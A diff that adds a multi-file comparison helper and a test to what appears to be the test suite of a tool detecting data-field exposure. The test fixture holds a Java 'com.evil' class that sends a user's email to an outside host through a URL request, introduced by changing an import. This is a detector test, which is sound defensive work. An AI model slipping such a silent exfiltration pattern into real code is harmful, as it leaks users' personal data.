@@ -35,6 +35,20 @@ def compared(before: bytes, after: bytes, around: dict[str, bytes]) -> tuple[Out
     return comparison.finish(), opened
 
 
+def compared_all(
+    changes: list[tuple[str, bytes, bytes]], around: dict[str, bytes], paths: list[str] | None = None
+) -> list[tuple[str, str, str]]:
+    """The findings of a change of several files, with their paths."""
+    comparison = Comparison(
+        around=Around(lambda: paths or [*(path for path, _, _ in changes), *around], lambda path, _: around[path])
+    )
+    for path, before, after in changes:
+        old, new = (Side(name, "file", len(one), one) for name, one in (("1", before), ("2", after)))
+        comparison.add(Change(path, None, "modified", old, new))
+    found = comparison.finish().findings
+    return [(one.rule, str(one.evidence.get("kind")), one.location.path) for one in found if one.location is not None]
+
+
 def rules(outcome: Outcome) -> list[tuple[str, str]]:
     return [(finding.rule, str(finding.evidence.get("kind"))) for finding in outcome.findings]
 
@@ -84,6 +98,22 @@ def test_a_file_that_is_too_large_or_one_too_many_is_told(monkeypatch: pytest.Mo
     monkeypatch.setattr(_around, "MAX_OPENED", 1)
     outcome, _ = compared(OLD, NEW, chain(2))
     assert ("data-field-exposed", "http") not in rules(outcome)
+
+
+def test_the_same_call_of_another_package_imported_whole_is_new() -> None:
+    safe = b"package com.safe; public class Client { public static void send(String s) {} }"
+    evil = (
+        b"package com.evil; import java.net.*; public class Client { public static void send(String s) throws Exception"
+        b' { new URL("https://a.partner.net/" + s).openStream(); } }'
+    )
+    before = (
+        b"package com.acme; import com.safe.*;\nclass Ranker { void score(User user) { Client.send(user.email); } }\n"
+    )
+    around = {"src/com/safe/Client.java": safe, "src/com/evil/Client.java": evil}
+    path = "src/com/acme/Ranker.java"
+    found = compared_all([(path, before, before.replace(b"com.safe", b"com.evil"))], around)
+    assert ("data-field-exposed", "http", path) in found
+    assert compared_all([(path, before, before + b"// the same\n")], around) == []
 
 
 def test_names_lead_to_files_by_the_habits_of_each_language() -> None:
